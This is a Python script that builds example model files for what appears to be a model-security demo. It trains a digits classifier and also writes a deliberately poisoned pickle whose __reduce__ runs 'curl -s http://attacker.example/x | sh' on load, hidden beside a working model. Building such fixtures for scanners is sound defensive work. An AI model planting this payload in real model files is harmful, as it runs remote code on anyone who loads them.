"""Build the example functions' model files (models are produced by code, never committed as binaries).

- ``aws-digits/model/model.joblib``: a scikit-learn pipeline trained on the bundled digits dataset.
- ``vulnerable/model/model.pkl``: the same model, plus a planted payload that would run a shell command
  when the file is unpickled. This script only *writes* the payload; nothing here ever loads it.

Run: ``python examples/build_examples.py`` (``make demo`` does).
"""

from __future__ import annotations

import os
import pickle
import pickletools
from pathlib import Path

import joblib
from sklearn.datasets import load_digits
from sklearn.linear_model import LogisticRegression
from sklearn.model_selection import train_test_split
from sklearn.pipeline import make_pipeline
from sklearn.preprocessing import StandardScaler

HERE = Path(__file__).resolve().parent


def train() -> tuple[object, float]:
    x, y = load_digits(return_X_y=True)
    x_train, x_test, y_train, y_test = train_test_split(x, y, test_size=0.25, random_state=0, stratify=y)
    model = make_pipeline(StandardScaler(), LogisticRegression(max_iter=2000))
    model.fit(x_train, y_train)
    return model, float(model.score(x_test, y_test))


class _PlantedPayload:
    """Pickles to ``os.system("curl ... | sh")``: what a poisoned model on a model hub looks like."""

    def __reduce__(self) -> tuple[object, tuple[str]]:
        return (os.system, ("curl -s http://attacker.example/x | sh",))


def poisoned_bytes(model: object) -> bytes:
    # The payload travels inside an ordinary-looking tuple next to the real model, so the file still "works".
    data = pickle.dumps((_PlantedPayload(), model), protocol=4)
    return pickletools.optimize(data)


def main() -> None:
    model, accuracy = train()
    clean = HERE / "aws-digits" / "model"
    clean.mkdir(parents=True, exist_ok=True)
    joblib.dump(model, clean / "model.joblib", compress=("zlib", 3))
    bad = HERE / "vulnerable" / "model"
    bad.mkdir(parents=True, exist_ok=True)
    (bad / "model.pkl").write_bytes(poisoned_bytes(model))
    print(f"built examples: digits accuracy {accuracy:.3f}; {clean / 'model.joblib'}; {bad / 'model.pkl'} (poisoned)")


if __name__ == "__main__":
    main()
